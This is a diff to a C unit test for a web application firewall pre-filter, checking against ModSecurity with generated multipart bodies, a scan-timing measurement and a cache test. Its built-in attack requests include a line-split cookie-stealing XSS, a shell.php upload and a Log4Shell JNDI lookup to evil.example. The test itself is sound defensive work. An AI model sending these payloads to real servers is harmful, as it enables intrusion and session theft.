@@ -9,7 +9,8 @@
  *
  * Requests: a built-in list of benign and attack requests, random ones
  * mixing attack fragments, encodings, protocol oddities and benign fields
- * in every part of a request (WAF_PF_RANDOM of them per paranoia level,
+ * in every part of a request (multipart bodies too, plain and with the
+ * oddities ModSecurity's parser flags or refuses) (WAF_PF_RANDOM of them per paranoia level,
  * default 800; WAF_PF_SEED picks another sequence), and, when
  * WAF_PF_RAW names a file written by tests/waf/pf_dump_corpus.py, every
  * request of the WAF corpus.  Paranoia levels 1 and 2 (WAF_PF_LEVELS="1 2").
@@ -23,6 +24,7 @@
 #include "unit.h"
 
 #include "waf/prefilter.h"
+#include "waf/pf_plan.h"
 #include "waf/waf.h"
 
 #include <ctype.h>
@@ -33,6 +35,7 @@
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdlib.h>
+#include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -267,6 +270,8 @@ static void piece(char *out, size_t cap, bool attack)
 		pct_encode(out, cap, p, (int)rnd(5));
 }
 
+static void multipart(struct req *r, bool odd, int *attacks);
+
 static void gen_random(struct req *r)
 {
 	static const char *const methods[] = { "GET", "GET", "GET", "GET", "POST", "POST", "PUT",
@@ -352,7 +357,9 @@ static void gen_random(struct req *r)
 
 	/* body */
 	int kind = (int)rnd(6);
-	if (kind >= 3 || (!strcmp(r->method, "POST") && rnd(2))) {
+	if (rnd(5) == 0) {
+		multipart(r, odd, &attacks);
+	} else if (kind >= 3 || (!strcmp(r->method, "POST") && rnd(2))) {
 		const char *ct = rnd(8) ? (odd ? PICK(ctypes) : ctypes[rnd(2)]) : NULL;
 		piece(a, sizeof(a), attacks > 0 ? (attacks--, true) : false);
 		piece(b, sizeof(b), false);
@@ -399,6 +406,95 @@ static void gen_random(struct req *r)
 		hdr(r, "Transfer-Encoding", "chunked");
 }
 
+/* A multipart/form-data body: mostly the plain shape browsers send, with
+ * attack pieces in names, filenames, values and part headers, and now and
+ * then one of the oddities Multipart flags or refuses (the pre-filter must
+ * then agree with ModSecurity or say "might"). */
+static void multipart(struct req *r, bool odd, int *attacks)
+{
+	static const char *const bds[] = { "----WebKitFormBoundary7MA4YWxkTrZu0gW",
+					   "---------------------------9051914041544843365972754266",
+					   "xYzZY", "b'()+_,-./:=?", "a b" };
+	static const char *const cts[] = { "image/png", "text/plain", "application/octet-stream",
+					   "text/x-php", "image/png; charset=utf-7", "text/html", "" };
+	static const char *const oddities[] = {
+		"lf", "quoted", "nofinal", "before", "after", "fold", "emptyfn", "squote", "space-bd",
+		"dup", "extrahdr", "nocd", "cte", "charset", "startbd", "ws", "crlfval", "lfval",
+		"bs", "filename*", "nosemi", "bdlast" };
+	const char *bd = rnd(6) ? bds[rnd(3)] : PICK(bds);
+	const char *o = odd && rnd(2) ? PICK(oddities) : "";
+	char a[2200], b[2200], out[12000], ct[256];
+	size_t n = 0;
+	const char *eol = strcmp(o, "lf") ? "\r\n" : "\n";
+
+	if (!strcmp(o, "quoted"))
+		snprintf(ct, sizeof(ct), "multipart/form-data; boundary=\"%s\"", bd);
+	else if (!strcmp(o, "nosemi"))
+		snprintf(ct, sizeof(ct), "multipart/form-data boundary=%s", bd);
+	else if (!strcmp(o, "bdlast"))
+		snprintf(ct, sizeof(ct), "multipart/form-data; boundary=%s; charset=utf-8", bd);
+	else if (!strcmp(o, "space-bd"))
+		snprintf(ct, sizeof(ct), "multipart/form-data; boundary= %s", bd);
+	else
+		snprintf(ct, sizeof(ct), "%s; boundary=%s", rnd(8) ? "multipart/form-data" : "Multipart/Form-Data", bd);
+	if (!strcmp(o, "before"))
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "preamble%s", eol);
+	int parts = 1 + (int)rnd(3);
+	for (int i = 0; i < parts && n + 5000 < sizeof(out); i++) {
+		bool file = rnd(3) == 0;
+		piece(a, sizeof(a), *attacks > 0 && rnd(3) == 0 ? ((*attacks)--, true) : false);
+		piece(b, sizeof(b), *attacks > 0 && rnd(3) == 0 ? ((*attacks)--, true) : false);
+		for (char *p = a; *p; p++)
+			if (*p == '"' || *p == '\r' || *p == '\n')
+				*p = '_';
+		if (!strcmp(o, "bs") && i == 0)
+			strcat(a, "\\\\x");
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s%s", bd, eol);
+		if (strcmp(o, "nocd") || i) {
+			const char *nm = rnd(3) ? (i == 0 ? "comment" : "file") : (a[0] ? a : "x");
+			if (!strcmp(o, "charset") && i == 0)
+				nm = "_charset_";
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Disposition: form-data; name=%s%.300s%s",
+					      !strcmp(o, "squote") && i == 0 ? "'" : "\"", nm,
+					      !strcmp(o, "squote") && i == 0 ? "'" : "\"");
+			if (file || (!strcmp(o, "emptyfn") && i == 0))
+				n += (size_t)snprintf(out + n, sizeof(out) - n, "; %s=\"%.300s\"",
+						      !strcmp(o, "filename*") ? "filename*" : "filename",
+						      !strcmp(o, "emptyfn") ? "" : (rnd(2) ? "photo.png" : (a[0] ? a : "a.php")));
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
+			if (!strcmp(o, "fold") && i == 0)
+				n += (size_t)snprintf(out + n, sizeof(out) - n, " continued%s", eol);
+		}
+		if (file || rnd(4) == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Type: %s%s",
+					      rnd(4) ? cts[rnd(3)] : PICK(cts), eol);
+		if (!strcmp(o, "dup") && i == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Type: text/plain%s", eol);
+		if (!strcmp(o, "extrahdr") && i == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "X-Note: %.200s%s", b, eol);
+		if (!strcmp(o, "cte") && i == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Transfer-Encoding: base64%s", eol);
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
+		if (!strcmp(o, "startbd") && i == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s", bd);
+		else if (!strcmp(o, "ws") && i == 0)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "x%s-- %s%s", eol, bd, eol);
+		/* the content, sometimes on several lines */
+		size_t bl = strlen(b);
+		if ((!strcmp(o, "crlfval") || !strcmp(o, "lfval") || rnd(5) == 0) && bl > 2)
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "%.*s%s%s", (int)(bl / 2), b,
+					      strcmp(o, "lfval") ? "\r\n" : "\n", b + bl / 2);
+		else
+			n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", b);
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
+	}
+	if (strcmp(o, "nofinal"))
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s--%s", bd, rnd(4) ? eol : "");
+	if (!strcmp(o, "after"))
+		n += (size_t)snprintf(out + n, sizeof(out) - n, "trailing");
+	body(r, ct, out);
+}
+
 /* Built-in requests: 0 benign, 1 attack */
 static size_t builtin(struct req *r, size_t i)
 {
@@ -437,6 +533,34 @@ static size_t builtin(struct req *r, size_t i)
 		body(r, "application/x-www-form-urlencoded", "username=admin%27--&password=x"); return 1;
 	case 19: req_init(r, "GET", "/api", 0); browser(r);
 		hdr(r, "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"); return 1;
+	/* multipart: an upload, then values ModSecurity reads with their
+	 * line ends removed ("<scr" CRLF "ipt>" is "<script>" to it) */
+	case 20: req_init(r, "POST", "/upload", 0); browser(r);
+		body(r, "multipart/form-data; boundary=----WebKitFormBoundaryAbC123",
+		     "------WebKitFormBoundaryAbC123\r\n"
+		     "Content-Disposition: form-data; name=\"title\"\r\n\r\nMy holiday\r\nphotos\r\n"
+		     "------WebKitFormBoundaryAbC123\r\n"
+		     "Content-Disposition: form-data; name=\"photo\"; filename=\"beach.png\"\r\n"
+		     "Content-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\nIHDR\r\n"
+		     "------WebKitFormBoundaryAbC123--\r\n");
+		return 1;
+	case 21: req_init(r, "POST", "/comment", 1); browser(r);
+		body(r, "multipart/form-data; boundary=xYzZY",
+		     "--xYzZY\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n"
+		     "<scr\r\nipt>alert(document.cookie)</scr\r\nipt>\r\n--xYzZY--\r\n");
+		return 1;
+	case 22: req_init(r, "POST", "/upload", 1); browser(r);
+		body(r, "multipart/form-data; boundary=xYzZY",
+		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n"
+		     "Content-Type: text/plain\r\n\r\nhello\r\n--xYzZY--\r\n");
+		return 1;
+	case 24: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}"); return 1;
+	case 23: req_init(r, "POST", "/upload", 1); browser(r);
+		body(r, "multipart/form-data; boundary=xYzZY",
+		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n"
+		     "Content-Type: text/plain; charset=utf-7\r\n\r\nhello\r\n--xYzZY--\r\n");
+		return 1;
 	default:
 		return 0;
 	}
@@ -504,6 +628,7 @@ struct stats {
 	size_t n, msc_hit, pf_skip, benign, benign_skip, attack, attack_msc, violations;
 	size_t rnd_clean, rnd_clean_skip, benign_clean, benign_clean_skip;
 	size_t attack_pf, benign_fp, benign_fp_pf;	/* detections with the pre-filter in front */
+	size_t mp, mp_skip, mp_hit;	/* multipart bodies: all, skipped, ModSecurity matched */
 };
 
 static void dump(const struct req *r)
@@ -525,6 +650,14 @@ static void check(struct waf_pf *pf, struct waf_pf_scratch *sc, ModSecurity *ms,
 
 	st->n++;
 	st->msc_hit += hit;
+	for (size_t i = 0; i < r->nhdrs; i++)
+		if (r->body_len && r->hdrs[i].value_len >= 10 &&
+		    !strncasecmp(r->hdrs[i].value, "multipart/", 10)) {
+			st->mp++;
+			st->mp_skip += !might;
+			st->mp_hit += hit;
+			break;
+		}
 	st->pf_skip += !might;
 	if (r->kind == 0) {
 		st->benign++;
@@ -655,6 +788,12 @@ static void run_level(int pl)
 	}
 	const char *raw = getenv("WAF_PF_RAW");
 	FILE *f = raw ? fopen(raw, "rb") : NULL;
+	const char *rr = getenv("WAF_PF_RAW_REPS");
+	int raw_reps = rr ? atoi(rr) : 1;
+	double raw_ms = 0;
+	size_t raw_n = 0;
+	if (raw_reps < 1)
+		raw_reps = 1;
 	if (f) {
 		char head[512];
 		size_t skipped = 0;
@@ -672,6 +811,15 @@ static void run_level(int pl)
 			if (parse_raw(&r, kind, label, b, len)) {
 				r.label = label;
 				check(pf, sc, ms, rules, &r, &st, pl);
+				if (r.kind == 0) {
+					/* the scan's cost on this benign request */
+					struct waf_pf_req q = as_pf(&r);
+					double a = now_ms();
+					for (int k = 0; k < raw_reps; k++)
+						(void)waf_pf_scan(pf, sc, &q);
+					raw_ms += now_ms() - a;
+					raw_n++;
+				}
 				req_free(&r);
 			} else {
 				req_free(&r);
@@ -681,6 +829,9 @@ static void run_level(int pl)
 		}
 		fclose(f);
 		printf("  PL%d corpus: %zu unparsable raw requests skipped\n", pl, skipped);
+		if (raw_n)
+			printf("  PL%d corpus: scan %.1f us per benign request on average (%zu requests)\n",
+			       pl, raw_ms * 1e3 / ((double)raw_n * raw_reps), raw_n);
 	}
 	printf("  PL%d: build %.0f ms, %zu patterns, %zu fallbacks, database %zu KiB\n", pl, build,
 	       waf_pf_patterns(pf), waf_pf_fallbacks(pf), waf_pf_db_bytes(pf) / 1024);
@@ -696,6 +847,8 @@ static void run_level(int pl)
 	printf("  PL%d: detection without / with the pre-filter: attacks %zu/%zu vs %zu/%zu, "
 	       "benign flagged %zu/%zu vs %zu/%zu\n", pl, st.attack_msc, st.attack, st.attack_pf,
 	       st.attack, st.benign_fp, st.benign, st.benign_fp_pf, st.benign);
+	printf("  PL%d: multipart bodies: %zu, %zu matched by ModSecurity, %zu skipped by the "
+	       "pre-filter\n", pl, st.mp, st.mp_hit, st.mp_skip);
 	CHECK_EQ_INT(st.violations, 0);
 	CHECK_EQ_INT(st.attack_pf, st.attack_msc);
 	CHECK_EQ_INT(st.benign_fp_pf, st.benign_fp);
@@ -808,9 +961,69 @@ TEST(test_small_rule_set)
 	}
 }
 
+/* pf_cache.c: a second build with the same rules compiles nothing (from
+ * memory, then from the directory after the memory is dropped), scans the
+ * same, and a directory others can write is not used. */
+TEST(test_db_cache)
+{
+	static const char conf[] =
+		"SecRule ARGS \"@rx evil\\d+\" \"id:4,phase:2,block,t:none,t:lowercase\"\n"
+		"SecRule REQUEST_HEADERS:User-Agent \"@pm sqlmap nikto\" \"id:5,phase:1,block,t:none\"\n"
+		"SecRule ARGS \"@rx (?<=a)b\" \"id:6,phase:2,block\"\n";	/* Vectorscan rejects it */
+	char dir[64], old[600] = "";
+	size_t cached = 0;
+	const char *prev = getenv("GATEHOUSE_WAF_CACHE");
+
+	if (prev)
+		snprintf(old, sizeof(old), "%s", prev);
+	snprintf(dir, sizeof(dir), "/tmp/gh_waf_pf_cache_%d", (int)getpid());
+	setenv("GATEHOUSE_WAF_CACHE", dir, 1);
+	pf_cache_clear();
+
+	struct waf_pf *a = small(conf, 1);
+	CHECK(a != NULL);
+	CHECK(a && waf_pf_compiles(a, &cached) > 0 && cached == 0);
+	struct waf_pf *b = small(conf, 1);	/* memory */
+	CHECK(b && waf_pf_compiles(b, &cached) == 0 && cached > 0);
+	pf_cache_clear();
+	struct waf_pf *c = small(conf, 1);	/* the directory */
+	CHECK(c && waf_pf_compiles(c, &cached) == 0 && cached > 0);
+	if (a && b && c) {
+		CHECK(scan_get(c, "/?a=EVIL12", "x") && !scan_get(c, "/?a=good", "x"));
+		CHECK(scan_get(c, "/", "sqlmap/1.5") && scan_get(c, "/?q=ab", "x"));
+		CHECK_EQ_INT(waf_pf_patterns(a), waf_pf_patterns(c));
+		CHECK_EQ_INT(waf_pf_fallbacks(a), waf_pf_fallbacks(c));
+	}
+	waf_pf_free(a);
+	waf_pf_free(b);
+	waf_pf_free(c);
+
+	/* a directory others may write: compile, read nothing from it */
+	pf_cache_clear();
+	chmod(dir, 0777);
+	struct waf_pf *d = small(conf, 1);
+	CHECK(d && waf_pf_compiles(d, &cached) > 0 && cached == 0);
+	waf_pf_free(d);
+	pf_cache_clear();
+	setenv("GATEHOUSE_WAF_CACHE", "off", 1);
+	d = small(conf, 1);
+	CHECK(d && waf_pf_compiles(d, &cached) > 0 && cached == 0);
+	waf_pf_free(d);
+	pf_cache_clear();
+
+	char cmd[128];
+	snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
+	CHECK_EQ_INT(system(cmd), 0);
+	if (old[0])
+		setenv("GATEHOUSE_WAF_CACHE", old, 1);
+	else
+		unsetenv("GATEHOUSE_WAF_CACHE");
+}
+
 int main(void)
 {
 	RUN(test_small_rule_set);
+	RUN(test_db_cache);
 	if (access(CRS_LOAD, R_OK) != 0) {
 		printf("test_waf_pf: CRS tests skipped (%s not installed)\n", CRS_LOAD);
 		return UNIT_SUMMARY("test_waf_pf");
